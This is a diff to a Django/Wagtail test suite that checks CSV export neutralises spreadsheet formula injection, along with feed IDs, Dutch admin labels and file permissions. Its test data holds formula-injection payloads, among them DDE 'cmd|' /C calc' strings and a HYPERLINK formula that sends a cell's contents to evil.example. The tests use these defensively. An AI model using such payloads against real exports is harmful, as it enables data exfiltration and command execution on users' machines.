@@ -17,8 +17,11 @@ import datetime
 import io
 import json
 import os
+import re
 import stat
+import unicodedata
 import xml.etree.ElementTree as ET
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -56,10 +59,22 @@ def csv_rows(response):
     return list(csv.reader(io.StringIO(content.decode())))
 
 
+def spreadsheet_would_evaluate(cell):
+    """What a spreadsheet may evaluate: a formula start after any leading
+    spaces, controls and invisible characters, full-width forms included."""
+    if cell.startswith(FORMULA_STARTS + ("\n",)):
+        return True
+    significant = [
+        char for char in cell if unicodedata.category(char) not in ("Zs", "Cc", "Cf")
+    ]
+    first = unicodedata.normalize("NFKC", significant[0])[:1] if significant else ""
+    return first in ("=", "+", "-", "@", "|")
+
+
 def assert_no_formula_cells(rows):
     for row in rows:
         for cell in row:
-            assert not cell.startswith(FORMULA_STARTS), cell
+            assert not spreadsheet_would_evaluate(cell), cell
 
 
 # Item 8: CSV formula injection ----------------------------------------------------
@@ -77,7 +92,24 @@ def assert_no_formula_cells(rows):
         ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
         ("\t=1+1", "'\t=1+1"),
         ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        # Spaces and invisible characters a spreadsheet skips before it looks.
+        (" =1+1", "' =1+1"),
+        ("\u00a0=1+1", "'\u00a0=1+1"),  # no-break space
+        ("\ufeff=1+1", "'\ufeff=1+1"),  # byte order mark
+        ("\u200b=1+1", "'\u200b=1+1"),  # zero-width space
+        ("\u2003\u200e-1", "'\u2003\u200e-1"),  # em space, left-to-right mark
+        # Full-width forms, read as their ASCII twins.
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\uff0b31 6 12345678", "'\uff0b31 6 12345678"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("\ufe66HYPERLINK()", "'\ufe66HYPERLINK()"),  # small equals sign
+        ("|calc", "'|calc"),  # DDE
         ("Gewone tekst = geen formule", "Gewone tekst = geen formule"),
+        ("  Gewone tekst met spaties", "  Gewone tekst met spaties"),
+        ("\u00e9\u00e9n = een", "\u00e9\u00e9n = een"),
+        ("", ""),
+        ("   ", "   "),
     ],
 )
 def test_neutralise_quotes_what_a_spreadsheet_would_evaluate(text, shown):
@@ -85,6 +117,23 @@ def test_neutralise_quotes_what_a_spreadsheet_would_evaluate(text, shown):
 
     assert csvexport.neutralise(text) == shown
     assert csvexport.neutralise(42) == 42  # numbers stay numbers
+
+
+def test_csv_headings_are_neutralised_too():
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    from kb import csvexport
+
+    buffer = io.StringIO()
+    csvexport.writer(buffer).writerow(["\u200b=kop", "titel"])
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'\u200b=kop", "titel"]
+
+    class Export(SpreadsheetExportMixin):
+        list_export = ["title"]
+        export_headings = {"title": "\uff1dTitel"}
+
+    heading = next(Export().stream_csv(get_user_model().objects.none()))
+    assert next(csv.reader(io.StringIO(heading.decode()))) == ["'\uff1dTitel"]
 
 
 def test_practices_csv_writes_titles_and_summaries_as_text(client):
@@ -120,6 +169,58 @@ def test_stale_practices_csv_writes_a_display_name_as_text(client):
     assert row[0] == "'+Verouderde praktijk"
     assert "'" + display_name in row
     assert_no_formula_cells(rows)
+
+
+@pytest.fixture
+def formula_member_and_practice():
+    """A member whose display name is a formula and who published, locked
+    and submitted a practice whose title is one too: what Wagtail's reports
+    show."""
+    display_name = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+    member = MemberFactory(display_name=display_name)
+    practice = PracticePageFactory(title="\u00a0+cmd|' /C calc'!A0", owner=member)
+    practice.save_revision(user=member).publish(
+        user=member, skip_permission_checks=True
+    )
+    practice.refresh_from_db()
+    # In moderation: the workflow reports name the page and who submitted it.
+    workflow = practice.get_workflow()
+    assert workflow is not None
+    practice.save_revision(user=member)
+    workflow.start(practice, member)
+    practice.refresh_from_db()
+    practice.locked, practice.locked_by = True, member
+    practice.locked_at = timezone.now()
+    practice.save()
+    return member, practice
+
+
+@pytest.mark.parametrize(
+    "report",
+    [
+        "site_history",
+        "locked_pages",
+        "aging_pages",
+        "workflow",
+        "workflow_tasks",
+    ],
+)
+def test_wagtail_report_csvs_write_no_formulas(
+    admin_client, formula_member_and_practice, report
+):
+    member, practice = formula_member_and_practice
+
+    rows = csv_rows(
+        admin_client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
+    )
+
+    assert_no_formula_cells(rows)
+    cells = {cell for row in rows for cell in row}
+    # The title and the member's name are there, as text.
+    assert any(cell.startswith("'" + practice.title) for cell in cells), report
+    if report == "site_history":
+        assert member.first_name.startswith("=")
+        assert "'" + member.first_name in cells, report
 
 
 # Item 17: Atom summaries are plain text, escaped once ------------------------------
@@ -170,6 +271,26 @@ def test_feed_links_come_from_the_base_url_not_the_host_header(client, base_url)
     assert len(links) >= 3  # the feed itself, the search page, the entry
     assert all(link.startswith(base_url + "/") for link in links), links
     assert root.findtext(f"{ATOM}id").startswith(base_url + "/")
+
+
+def test_feed_entry_ids_are_tag_uris_on_the_base_host(client, base_url):
+    practice = published(title="Feed met vaste id", summary="Idfeed")
+
+    response = client.get(
+        reverse("feed_practices"), {"q": "Idfeed"}, HTTP_HOST=SPOOFED_HOST
+    )
+
+    root = ET.fromstring(response.content)
+    entry = next(
+        e
+        for e in root.iter(f"{ATOM}entry")
+        if e.findtext(f"{ATOM}title") == practice.title
+    )
+    host = urlsplit(base_url).hostname
+    # An IRI (RFC 4287 4.2.6), the same whatever the practice's URL becomes.
+    assert entry.findtext(f"{ATOM}id") == f"tag:{host},2024:practice-{practice.pk}"
+    ids = [e.findtext(f"{ATOM}id") for e in root.iter(f"{ATOM}entry")]
+    assert all(re.fullmatch(rf"tag:{re.escape(host)},2024:\w+-\d+", i) for i in ids)
 
 
 def test_api_and_csv_urls_come_from_the_base_url(client, base_url):
@@ -377,6 +498,58 @@ def test_admin_login_password_label_is_translated(client):
     assert "Wachtwoord" in html
 
 
+def active_filter_values(html):
+    """The values on the pills of the active filters above a listing."""
+    return [
+        value.strip()
+        for value in re.findall(r'<b class="w-ml-1">(.*?)</b>', html, flags=re.S)
+    ]
+
+
+def test_active_yes_no_filters_say_ja_or_nee(admin_client):
+    OrganisationFactory(is_confirmed=True)
+    OrganisationFactory(is_confirmed=False)
+    QuestionFactory(is_hidden=True)
+
+    for url, shown in (
+        ("/admin/snippets/practices/organisation/?is_confirmed=true", "Ja"),
+        ("/admin/snippets/practices/organisation/?is_confirmed=false", "Nee"),
+        ("/admin/community/vragen/?is_hidden=true", "Ja"),
+        ("/admin/community/vragen/?is_hidden=true&is_locked=false", "Nee"),
+        ("/admin/community/antwoorden/?is_hidden=false", "Nee"),
+    ):
+        response = admin_client.get(url)
+        assert response.status_code == 200, url
+        values = active_filter_values(response.content.decode())
+        assert shown in values, (url, values)
+        assert not {"True", "False"} & set(values), (url, values)
+        # The filtered results, as the pills fetch them.
+        results = admin_client.get(
+            url.replace("/?", "/results/?"), HTTP_ACCEPT="text/html"
+        )
+        if results.status_code == 200:
+            text = results.content.decode().replace(" ", "").replace("\n", "")
+            assert ">True<" not in text and ">False<" not in text, url
+
+
+def test_django_admin_login_is_dutch(client):
+    html = client.get("/django-admin/login/").content.decode()
+    assert "Forgotten your login credentials?" not in html
+    assert gettext("Forgotten your login credentials?") == "Inloggegevens vergeten?"
+    assert "Inloggegevens vergeten?" in html
+
+
+def test_the_django_admin_msgid_survives_makemessages():
+    """`make messages` (makemessages --no-obsolete) keeps only msgids found
+    in our sources: the marker in kb/admin_display.py is one."""
+    from pathlib import Path
+
+    import kb.admin_display
+
+    source = Path(kb.admin_display.__file__).read_text()
+    assert 'gettext_noop("Forgotten your login credentials?")' in source
+
+
 def test_admin_listings_and_inspect_views_show_no_true_or_false(admin_client):
     OrganisationFactory(is_confirmed=True)
     OrganisationFactory(is_confirmed=False)
@@ -395,3 +568,115 @@ def test_admin_listings_and_inspect_views_show_no_true_or_false(admin_client):
         for word in ("True", "False"):
             assert f">{word}<" not in text.replace(" ", "").replace("\n", ""), url
         assert gettext("Yes") in text or gettext("No") in text, url
+
+
+# Item 17: files on disk are private ------------------------------------------------
+
+
+@pytest.fixture
+def umask_022():
+    old = os.umask(0o022)  # the usual umask: new files readable by everyone
+    yield
+    os.umask(old)
+
+
+def test_an_existing_var_directory_is_made_0711(tmp_path):
+    import subprocess
+    import sys
+
+    var = tmp_path / "var"
+    var.mkdir()
+    var.chmod(0o755)  # as a checkout or an older version left it
+    env = {**os.environ, "VINDPLAATS_VAR_DIR": str(var)}
+    env.pop("DATABASE_URL", None)
+    subprocess.run(
+        [sys.executable, "-c", "import kb.settings.dev"],
+        env=env,
+        check=True,
+        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
+    )
+    assert mode(var) == 0o711
+
+    # A stricter mode is left as it is.
+    var.chmod(0o700)
+    subprocess.run(
+        [sys.executable, "-c", "import kb.settings.dev"],
+        env=env,
+        check=True,
+        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
+    )
+    assert mode(var) == 0o700
+
+
+def test_development_mail_files_are_private(tmp_path, umask_022, settings):
+    from django.core import mail
+    from django.utils.module_loading import import_string
+
+    from kb.settings import dev
+
+    assert dev.EMAIL_BACKEND == "kb.mail_backends.PrivateFileEmailBackend"
+    settings.EMAIL_BACKEND = dev.EMAIL_BACKEND
+    settings.EMAIL_FILE_PATH = tmp_path / "mail"
+    import_string(dev.EMAIL_BACKEND)  # importable
+
+    mail.send_mail(
+        "Wachtwoord opnieuw instellen",
+        "https://vindplaats.example.org/account/password/reset/key/geheim/",
+        "site@example.org",
+        ["lid@example.org"],
+    )
+
+    files = list((tmp_path / "mail").iterdir())
+    assert len(files) == 1
+    assert "reset/key/geheim" in files[0].read_text()
+    assert mode(tmp_path / "mail") == 0o700
+    assert mode(files[0]) == 0o600
+
+
+def test_an_existing_mail_folder_is_made_private(tmp_path, umask_022, settings):
+    from django.core import mail
+
+    folder = tmp_path / "mail"
+    folder.mkdir(mode=0o755)
+    settings.EMAIL_BACKEND = "kb.mail_backends.PrivateFileEmailBackend"
+    settings.EMAIL_FILE_PATH = folder
+    mail.send_mail("Onderwerp", "Tekst", "site@example.org", ["lid@example.org"])
+    assert mode(folder) == 0o700
+
+
+def test_uploads_and_renditions_are_not_world_readable(
+    tmp_path, umask_022, settings, rf
+):
+    from PIL import Image as PILImage
+    from wagtail.images import get_image_model
+
+    from django.core.files.images import ImageFile
+
+    from kb.urls import dev_media
+
+    assert settings.FILE_UPLOAD_PERMISSIONS == 0o640
+    assert settings.FILE_UPLOAD_DIRECTORY_PERMISSIONS == 0o750
+    settings.MEDIA_ROOT = tmp_path / "media"
+    buffer = io.BytesIO()
+    PILImage.new("RGB", (300, 200), "teal").save(buffer, "PNG")
+    buffer.seek(0)
+
+    image = get_image_model().objects.create(
+        title="Rechten", file=ImageFile(buffer, name="rechten.png")
+    )
+    rendition = image.get_rendition("fill-100x100")
+
+    original = tmp_path / "media" / image.file.name
+    resized = tmp_path / "media" / rendition.file.name
+    assert mode(original) == 0o640
+    assert mode(resized) == 0o640
+    for folder in (original.parent, resized.parent, tmp_path / "media"):
+        assert mode(folder) == 0o750, folder
+    # The development server (`make run`) still serves them.
+    response = dev_media(
+        rf.get("/media/" + rendition.file.name),
+        rendition.file.name,
+        document_root=settings.MEDIA_ROOT,
+    )
+    assert response.status_code == 200
+    assert b"".join(response.streaming_content)[:8] == b"\x89PNG\r\n\x1a\n"
